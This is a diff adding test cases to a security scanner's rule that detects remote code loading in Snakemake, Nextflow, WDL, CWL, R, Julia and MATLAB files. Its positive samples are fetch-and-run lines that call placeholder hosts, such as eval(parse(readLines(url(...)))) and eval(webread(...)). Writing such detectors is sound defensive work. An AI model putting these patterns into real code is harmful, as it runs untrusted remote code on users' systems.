@@ -503,3 +503,102 @@ describeRuleCases('dropper (fetch-and-run assembled from data)', [
     negative: '#!/bin/sh\n. ./config/update.env\n$FETCH $FETCH_FLAGS "$SRC" | $HASHER\n',
   },
 ]);
+
+describeRuleCases('dropper (workflow and research code loaded from a URL)', [
+  {
+    id: 'SG-DROPPER-017',
+    file: 'workflow/Snakefile',
+    positive:
+      'module qc:\n    snakefile: "https://rules.qc-hub.example.org/qc/v1/Snakefile"\n    config: config\n\nuse rule * from qc as qc_*\n',
+    negative:
+      'module qc:\n    snakefile: github("snakemake-workflows/dna-seq-gatk-variant-calling", path="workflow/Snakefile", tag="v2.0.1")\n    config: config\n',
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'workflow/rules/qc.smk',
+    positive: 'include: "https://rules.qc-hub.example.org/qc/common.smk"\n',
+    negative: 'include: "common.smk"\n',
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'main.nf',
+    positive: "include { QC } from 'https://modules.qc-hub.example.org/qc/main.nf'\n",
+    negative: "include { QC } from './modules/qc/main.nf'\n",
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'wf/main.wdl',
+    positive: 'version 1.0\nimport "https://wdl.qc-hub.example.org/tasks.wdl" as tasks\n',
+    negative: 'version 1.0\nimport "tasks/align.wdl" as tasks\n',
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'scripts/run.R',
+    positive: 'source("https://stats-helpers.example.net/setup.R")\nrun_all()\n',
+    negative: 'source("R/helpers.R")\n# source("https://stats-helpers.example.net/setup.R")\n',
+  },
+  {
+    id: 'SG-DROPPER-017',
+    positive: "# Tool\n\n```r\neval(parse(text = readLines(url('https://x.example.net/a.R'))))\n```\n",
+    negative: "# Tool\n\n```r\nd <- read.csv(url('https://x.example.net/data.csv'))\n```\n",
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'scripts/setup.jl',
+    positive: 'include(download("https://x.example.net/hooks.jl"))\n',
+    negative: 'df = CSV.read(download("https://x.example.net/data.csv"), DataFrame)\n',
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'scripts/poll.jl',
+    positive:
+      'buf = IOBuffer()\nDownloads.download("https://x.example.net/spec", buf)\ninclude_string(Main, String(take!(buf)))\n',
+    negative: 'Downloads.download("https://x.example.net/data.csv", "data.csv")\ninclude("src/model.jl")\n',
+  },
+  {
+    id: 'SG-DROPPER-017',
+    file: 'scripts/setup.m',
+    positive: "cfg = webread('https://x.example.net/cfg.m');\neval(cfg);\n",
+    negative: "data = webread('https://api.example.net/v1/series');\nplot(data.values);\n",
+  },
+]);
+
+describe('SG-DROPPER-017 severity', () => {
+  const sev = (file: string, text: string) =>
+    findingsOf(text, file).find((f) => f.rule_id === 'SG-DROPPER-017')?.severity;
+  it('should rate a module pinned to a release or commit of a code forge MEDIUM', () => {
+    expect(
+      sev(
+        'workflow/Snakefile',
+        'module m:\n    snakefile: "https://raw.githubusercontent.com/org/wf/v2.0.1/workflow/Snakefile"\n',
+      ),
+    ).toBe('MEDIUM');
+    expect(
+      sev(
+        'workflow/Snakefile',
+        'module m:\n    snakefile: github("org/wf", path="Snakefile", branch="main")\n',
+      ),
+    ).toBe('MEDIUM');
+  });
+  it('should rate plain HTTP or a raw public IP CRITICAL', () => {
+    expect(sev('scripts/a.R', 'source("http://rules.example.org/a.R")\n')).toBe('CRITICAL');
+    expect(sev('main.nf', "include { A } from 'https://198.51.100.7/a.nf'\n")).toBe('CRITICAL');
+  });
+  it('should leave a GitLab CI include and a Deno module import alone', () => {
+    expect(sev('.gitlab-ci.yml', "include: 'https://gitlab.example.com/t/ci.yml'\n")).toBeUndefined();
+    expect(
+      sev('SKILL.md', '# x\n\n```ts\nimport "https://deno.land/std@0.200.0/dotenv/load.ts" as x;\n```\n'),
+    ).toBeUndefined();
+  });
+});
+
+describeRuleCases('dropper (CWL steps run from a URL)', [
+  {
+    id: 'SG-DROPPER-017',
+    file: 'wf/main.cwl',
+    positive:
+      'cwlVersion: v1.2\nclass: Workflow\nsteps:\n  qc:\n    run: https://tools.qc-hub.example.org/qc.cwl\n    in: {}\n    out: []\n',
+    negative:
+      'cwlVersion: v1.2\nclass: Workflow\nsteps:\n  qc:\n    run: tools/qc.cwl\n    in: {}\n    out: []\n',
+  },
+]);
